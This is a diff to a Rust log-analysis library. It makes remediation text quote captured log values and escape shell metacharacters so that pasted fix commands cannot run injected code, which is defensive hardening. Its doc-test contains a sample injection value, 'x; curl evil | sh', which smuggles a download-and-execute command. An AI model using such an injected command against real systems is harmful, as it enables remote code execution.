@@ -72,7 +72,7 @@ fn placeholders(text: &str) -> Vec<&str> {
 /// (anchor choice, literal extraction, the dialect, the markers, how a payload is read):
 /// `tests::compiler_revision_guard` fails when the payload of a fixed set changes until it is
 /// bumped and the guard's record updated.
-pub const COMPILER_REVISION: u32 = 1;
+pub const COMPILER_REVISION: u32 = 2;
 
 /// The database hash: xxh3-64 of the payload an archive of `db` stores (its hash field blank,
 /// no DFA: see `Database::identity_payload`) and [`COMPILER_REVISION`]. Comments and the
@@ -449,10 +449,19 @@ pub const MISSING_CAPTURE: &str = "(not captured)";
 /// do not form a placeholder (`{}`, `{a b}`) are kept. The output is at most `text.len()`
 /// plus 300 bytes per placeholder, whatever the captures hold.
 ///
+/// A capture is log text, and logs carry text that outsiders control: each is shown quoted,
+/// `«like this»`, never completed into a command. Pasted into a shell, a Fix line runs
+/// nothing the log wrote: the quote marks make the word no valid name or value, and the
+/// bytes that would end a shell word or start a new command or substitution (`;`, `|`, `&`,
+/// `$`, `` ` ``, `<`, `>`, `\`, line breaks) and the quote marks themselves are written as
+/// `\xNN`.
+///
 /// ```
 /// use faultline_db::interpolate;
 /// let caps = vec![("m".to_string(), "{m}{m}".to_string())];
-/// assert_eq!(interpolate("pip install {m} ({x})", &caps), "pip install {m}{m} ((not captured))");
+/// assert_eq!(interpolate("pip install {m} ({x})", &caps), "pip install «{m}{m}» ((not captured))");
+/// let lure = vec![("m".to_string(), "x; curl evil | sh".to_string())];
+/// assert_eq!(interpolate("pip install {m}", &lure), "pip install «x\\x3b curl evil \\x7c sh»");
 /// ```
 pub fn interpolate(text: &str, captures: &[(String, String)]) -> String {
     let mut out = String::with_capacity(text.len());
@@ -467,7 +476,7 @@ pub fn interpolate(text: &str, captures: &[(String, String)]) -> String {
         if name_len > 0 && after.as_bytes().get(name_len) == Some(&b'}') {
             let name = &after[..name_len];
             match captures.iter().find(|(n, _)| n == name) {
-                Some((_, value)) => push_cut(&mut out, value, MAX_CAPTURE_IN_REMEDIATION),
+                Some((_, value)) => push_capture(&mut out, value),
                 None => out.push_str(MISSING_CAPTURE),
             }
             rest = &after[name_len + 1..];
@@ -480,18 +489,36 @@ pub fn interpolate(text: &str, captures: &[(String, String)]) -> String {
     out
 }
 
-/// Appends `value` cut at `max` bytes (on a character boundary), saying how much was cut.
-fn push_cut(out: &mut String, value: &str, max: usize) {
-    if value.len() <= max {
-        out.push_str(value);
-        return;
+/// Appends capture `value` quoted as log text (see [`interpolate`]): `«value»`, its shell
+/// bytes and quote marks escaped, cut once the escaped text reaches
+/// [`MAX_CAPTURE_IN_REMEDIATION`] bytes, saying how many bytes of the value were left out.
+fn push_capture(out: &mut String, value: &str) {
+    out.push('«');
+    let start = out.len();
+    for (at, c) in value.char_indices() {
+        let escaped = matches!(
+            c,
+            ';' | '|' | '&' | '$' | '`' | '<' | '>' | '\\' | '\n' | '\r' | '«' | '»'
+        );
+        let width = if escaped {
+            c.len_utf8() * 4
+        } else {
+            c.len_utf8()
+        };
+        if out.len() - start + width > MAX_CAPTURE_IN_REMEDIATION {
+            out.push_str(&format!("…({} more bytes)", value.len() - at));
+            break;
+        }
+        if escaped {
+            let mut buf = [0u8; 4];
+            for b in c.encode_utf8(&mut buf).bytes() {
+                out.push_str(&format!("\\x{b:02x}"));
+            }
+        } else {
+            out.push(c);
+        }
     }
-    let mut end = max;
-    while !value.is_char_boundary(end) {
-        end -= 1;
-    }
-    out.push_str(&value[..end]);
-    out.push_str(&format!("…({} more bytes)", value.len() - end));
+    out.push('»');
 }
 
 #[cfg(test)]
